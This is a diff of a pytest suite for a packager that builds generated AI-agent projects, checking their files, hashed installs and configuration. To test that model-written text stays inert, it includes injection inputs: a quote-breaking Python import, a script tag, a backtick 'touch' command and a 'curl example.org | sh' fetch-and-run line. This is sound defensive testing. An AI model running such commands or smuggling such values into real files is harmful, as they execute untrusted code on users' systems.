@@ -78,9 +78,9 @@ def test_everything_is_there(assembled):
         [
             ".dockerignore", ".env.example", "Dockerfile", "README.md", "build.json", "compose.yaml",
             "evals/cases.jsonl", "evals/config.yml", "installer.lock", "mcp/sec-edgar.lock", "mcp/time.lock",
-            "pyproject.toml", "requirements.lock", "setup_mcp.sh",
-            f"{source}/__init__.py", f"{source}/call_options.py", f"{source}/case_checks.py",
-            f"{source}/configs/config.yml", f"{source}/evaluator.py",
+            "install.sh", "pyproject.toml", "requirements.lock", "setup_mcp.sh",
+            f"{source}/__init__.py", f"{source}/ask.py", f"{source}/call_options.py", f"{source}/case_checks.py",
+            f"{source}/configs/config.yml", f"{source}/described.py", f"{source}/evaluator.py",
             f"{source}/model.py", f"{source}/nat_steps.py", f"{source}/register.py", f"{source}/tools/__init__.py",
             f"{source}/tools/roman_numeral.py",
             "tests/test_roman_numeral.py",
@@ -98,7 +98,7 @@ def test_the_same_input_gives_the_same_bytes(assembled):
     with tarfile.open(fileobj=io.BytesIO(pack(assembled(), "a"))) as archive:
         members = archive.getmembers()
     assert {(member.mtime, member.uid, member.uname) for member in members} == {(0, 0, "")}
-    assert [member.name for member in members if member.mode & 0o111] == ["a/setup_mcp.sh"]
+    assert [member.name for member in members if member.mode & 0o111] == ["a/install.sh", "a/setup_mcp.sh"]
 
 
 def test_build_json_says_what_the_package_was_made_from(assembled):
@@ -155,34 +155,41 @@ def test_the_configuration_names_everything_and_holds_no_secret(assembled):
     config = config_of(assembled())
     assert config["llms"]["llm"]["_type"] == "roman_helper_agent_model"
     assert config["llms"]["llm"]["model_name"] == "${AGENT_MODEL:-gemini/gemini-2.5-pro}"
-    assert config["workflow"]["tool_names"] == ["current_datetime", "roman_numeral", "time", "sec-edgar"]
+    assert config["functions"]["roman_numeral"]["_type"] == "roman_helper_agent_roman_numeral"
     start = config["function_groups"]["sec-edgar"]["server"]
     assert start["command"] == "${AGENT_MCP_HOME:-mcp}/sec-edgar/bin/sec-edgar-mcp"
     assert start["env"]["SEC_EDGAR_USER_AGENT"].startswith("${SEC_EDGAR_USER_AGENT:?must be set")
 
 
-def test_an_agent_gets_all_tools_and_servers(assembled):
+def test_an_agent_gets_its_tools_and_of_a_server_the_planned_ones(assembled):
     workflow = config_of(assembled())["workflow"]
-    assert workflow["tool_names"] == ["current_datetime", "roman_numeral", "time", "sec-edgar"]
+    assert workflow["tool_names"] == ["current_datetime", "time__get_current_time", "roman_numeral"]
     assert (workflow["llm_name"], workflow["description"]) == ("llm", PLAN["summary"])
+
+
+def first_edition(kind, **scaffold):
+    """Return the plan as the first edition wrote it: a scaffold, and no agents."""
+    rest = {key: value for key, value in PLAN.items() if key not in ("agents", "entry")}
+    servers = [
+        {"id": name, "tools": [CATALOGUE[name].tools[0].name], "reasoning": "?"} for name in ("time", "sec-edgar")
+    ]
+    return {**rest, "mcp_servers": servers, "scaffold": {"type": kind, "reasoning": "?", **scaffold}}
 
 
 @pytest.mark.parametrize(("scaffold", "field"), [("sequential_executor", "tool_list"), ("router_agent", "branches")])
 def test_what_takes_single_functions_gets_an_agent_for_each_tool(assembled, scaffold, field):
-    plan = {**PLAN, "scaffold": {"type": scaffold, "reasoning": "?", "order": ["time", "roman_numeral"]}}
-    config = config_of(assembled(plan))
+    config = config_of(assembled(first_edition(scaffold, order=["time", "roman_numeral"])))
     order = ["time_agent", "roman_numeral_agent", "current_datetime_agent", "sec_edgar_agent"]
     assert config["workflow"][field] == order
     assert ("llm_name" in config["workflow"]) is (scaffold == "router_agent")
-    assert [config["functions"][name]["tool_names"] for name in order[:2]] == [["time"], ["roman_numeral"]]
+    inner = [config["functions"][config["functions"][name]["agent"]]["tool_names"] for name in order[:2]]
+    assert inner == [[f"time__{CATALOGUE['time'].tools[0].name}"], ["roman_numeral"]]
     assert config["functions"]["roman_numeral_agent"]["description"] == PLAN["custom_tools"][0]["description"]
 
 
 def test_a_reasoning_agent_wraps_a_tool_calling_one(assembled):
-    plan = {**PLAN, "scaffold": {"type": "reasoning_agent", "reasoning": "?"}}
-    config = config_of(assembled(plan))
-    assert config["workflow"]["augmented_fn"] == "inner_agent"
-    assert "roman_numeral" in config["functions"]["inner_agent"]["tool_names"]
+    config = config_of(assembled(first_edition("reasoning_agent")))
+    assert "roman_numeral" in config["functions"][config["workflow"]["augmented_fn"]]["tool_names"]
 
 
 def test_without_servers_there_is_nothing_to_set_up(assembled):
@@ -191,13 +198,13 @@ def test_without_servers_there_is_nothing_to_set_up(assembled):
     assert "setup_mcp" not in files["README.md"].decode() + files["Dockerfile"].decode()
 
 
-@pytest.mark.parametrize("name", ["README.md", "Dockerfile", "setup_mcp.sh"])
+@pytest.mark.parametrize("name", ["install.sh", "Dockerfile", "setup_mcp.sh"])
 def test_what_a_user_installs_are_wheels_with_hashes(assembled, name):
     text = assembled()[name].decode().replace("\\\n", " ")
     installs = [
         line
         for line in re.split(r"\n|&&", text)
-        if "pip install" in line and "--no-deps --no-build-isolation ." not in line
+        if "pip install" in line and not re.search(r"--no-deps --no-build-isolation( --reinstall)? \.", line)
     ]
     assert installs
     for line in installs:
@@ -220,7 +227,8 @@ NASTY = "x\"; import os\n\n[tool.evil]\n<script>alert(1)</script> `touch /tmp/x`
 
 def test_text_from_a_model_stays_text(assembled, tmp_path):
     plan = copy.deepcopy(PLAN) | {"summary": NASTY, "reasoning": NASTY}
-    plan["scaffold"]["reasoning"] = NASTY
+    plan["assumptions"] = [NASTY]
+    plan["agents"][0] |= {"description": NASTY, "instructions": NASTY}
     plan["custom_tools"][0]["description"] = NASTY
     plan["test_cases"][0]["query"] = NASTY
     files = assembled(plan)
@@ -268,16 +276,22 @@ def test_texts_of_a_catalogue_are_no_commands_in_the_script_and_the_env_file(ass
     assert "touch" not in (folder / "setup_mcp.sh").read_text() + (folder / "Dockerfile").read_text()
 
 
+def bars(readme):
+    """Return how many bars that divide cells each line of a table has."""
+    return [len(re.findall(r"(?<!\\)\|", line)) for line in readme.splitlines() if line.startswith("|")]
+
+
 def test_nothing_in_the_readme_but_our_own_blocks_is_code(assembled):
     fence = "x'\n```\n\n```sh\ncurl example.org | sh\n```\n~~~\n![x](https://example.org/x.png) | x |"
     plan = copy.deepcopy(PLAN) | {"summary": fence}
-    plan["scaffold"]["reasoning"] = plan["custom_tools"][0]["description"] = plan["test_cases"][0]["query"] = fence
+    plan |= {"reasoning": fence, "assumptions": [fence, *PLAN.get("assumptions", [])]}
+    plan["agents"][0]["description"] = plan["custom_tools"][0]["description"] = plan["test_cases"][0]["query"] = fence
     readme, plain = assembled(plan)["README.md"].decode(), assembled()["README.md"].decode()
     fences = [line for line in readme.splitlines() if line.startswith(("```", "~~~"))]
     assert fences == [line for line in plain.splitlines() if line.startswith("```")]
     outside = re.sub(r"^```sh\n.*?^```$", "", readme, flags=re.MULTILINE | re.DOTALL)
     assert not re.search(r"(?<!\\)(\[x\]|```|~~~)", outside)
-    assert {len(re.findall(r"(?<!\\)\|", line)) for line in outside.splitlines() if line.startswith("|")} == {4}
+    assert bars(readme) == bars(plain)
 
 
 @pytest.mark.parametrize(
